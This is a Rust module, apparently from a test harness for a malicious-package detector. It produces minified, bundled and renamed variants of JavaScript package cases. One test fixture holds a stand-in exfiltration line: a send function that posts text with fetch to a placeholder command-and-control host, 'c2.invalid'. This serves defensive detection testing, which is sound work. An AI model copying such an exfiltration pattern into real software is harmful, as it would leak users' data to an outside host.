//! The same package in other words: minified, bundled, and with other hosts, files and names.
//!
//! A variant does what its case does, so its level has to be the same. Everything is made from
//! the case alone: the same case gives the same variant.

mod bundled;
mod minified;
mod renamed;

use rayon::prelude::*;

use crate::{Case, File};

/// A way to write a package anew.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Variant {
    /// Each file of JavaScript went through a minifier, which also renames.
    Minified,
    /// What is loaded by `require` from one entry stands in one file, in a table of functions.
    Bundled,
    /// Hosts, files and the names in the code are others.
    Renamed,
}

impl Variant {
    /// All of them.
    pub const ALL: [Self; 3] = [Self::Minified, Self::Bundled, Self::Renamed];

    /// The name in labels and tables.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Minified => "minified",
            Self::Bundled => "bundled",
            Self::Renamed => "renamed",
        }
    }

    /// The files of the variant; `None` where there is nothing to change.
    #[must_use]
    pub fn of(self, case: &Case) -> Option<Vec<File>> {
        let files = match self {
            Self::Minified => minified::files(&case.files),
            Self::Bundled => bundled::files(&case.files),
            Self::Renamed => renamed::files(&case.files, &case.name),
        };
        (files != case.files).then_some(files)
    }
}

/// Bytes of stack of each thread: the minifier recurses as deep as the code is nested.
const STACK: usize = 256 << 20;

/// What `of` makes of each variant of each case, in the order of the cases.
///
/// # Panics
/// If no threads can be started.
pub fn each<'c, T: Send>(
    cases: impl IntoIterator<Item = &'c Case>,
    of: impl Fn(&'c Case, Variant, &[File]) -> T + Sync,
) -> Vec<T> {
    let all: Vec<(&Case, Variant)> = cases
        .into_iter()
        .flat_map(|case| Variant::ALL.map(|variant| (case, variant)))
        .collect();
    let pool = rayon::ThreadPoolBuilder::new().stack_size(STACK).build();
    let pool = pool.unwrap_or_else(|e| panic!("{e}"));
    pool.install(|| {
        all.par_iter()
            .filter_map(|&(case, variant)| Some(of(case, variant, &variant.of(case)?)))
            .collect()
    })
}

/// Whether a name is that of a file of JavaScript.
fn is_javascript(path: &str) -> bool {
    [".js", ".cjs", ".mjs"]
        .iter()
        .any(|ending| path.ends_with(ending))
}

/// The text of a file, if it is one.
fn text(bytes: &[u8]) -> Option<&str> {
    std::str::from_utf8(bytes).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cases;

    fn case(files: &[(&str, &str)]) -> Case {
        let mut case = cases().remove(0);
        case.files = files
            .iter()
            .map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()))
            .collect();
        case
    }

    fn of(variant: Variant, files: &[(&str, &str)], path: &str) -> String {
        let files = variant.of(&case(files)).unwrap_or_default();
        let file = files.into_iter().find(|(name, _)| name == path);
        file.map(|(_, bytes)| String::from_utf8_lossy(&bytes).into_owned())
            .unwrap_or_default()
    }

    #[test]
    fn a_minified_file_is_shorter() {
        let text = "// a note\nconst value = 1 + 2;\nmodule.exports = function (first) { return first + value; };\n";
        let short = of(Variant::Minified, &[("i.js", text)], "i.js");
        assert!(!short.is_empty() && short.len() < text.len(), "{short}");
        assert!(
            !short.contains("note") && !short.contains("value"),
            "{short}"
        );
    }

    #[test]
    fn a_bundle_holds_what_it_requires() {
        let files = [
            ("lib/b.js", "exports.b = require('fs');"),
            ("lib/c.json", "{\"c\":1}"),
            (
                "main.js",
                "const b = require('./lib/b');\nconst c = require(\"./lib/c.json\");\nb(c);",
            ),
            ("package.json", "{\"main\":\"main.js\"}"),
        ];
        let variant = Variant::Bundled.of(&case(&files)).unwrap_or_default();
        let names: Vec<&str> = variant.iter().map(|(name, _)| name.as_str()).collect();
        assert_eq!(names, ["main.js", "package.json"]);
        let text = String::from_utf8_lossy(&variant[0].1).into_owned();
        assert!(
            text.contains("require('fs')") && text.contains("{\"c\":1}"),
            "{text}"
        );
        assert!(!text.contains("./lib"), "{text}");
    }

    #[test]
    fn nothing_keeps_its_name() {
        let files = [
            (
                "lib/send.js",
                "exports.send = (text) => fetch('https://a.c2.invalid/x', { body: text });",
            ),
            (
                "main.js",
                "const { send } = require('./lib/send');\nsend('lib/send.js');",
            ),
            (
                "package.json",
                "{\"main\":\"main.js\",\"homepage\":\"https://c2.invalid\"}",
            ),
        ];
        let variant = Variant::Renamed.of(&case(&files)).unwrap_or_default();
        let all: String = variant
            .iter()
            .map(|(name, bytes)| format!("{name}\n{}\n", String::from_utf8_lossy(bytes)))
            .collect();
        for gone in ["c2.invalid", "lib/send", "main.js", "text"] {
            assert!(!all.contains(gone), "{gone}:\n{all}");
        }
        assert_eq!(all.matches(".invalid").count(), 2, "{all}");
        assert_eq!(
            variant,
            Variant::Renamed.of(&case(&files)).unwrap_or_default()
        );
    }
}
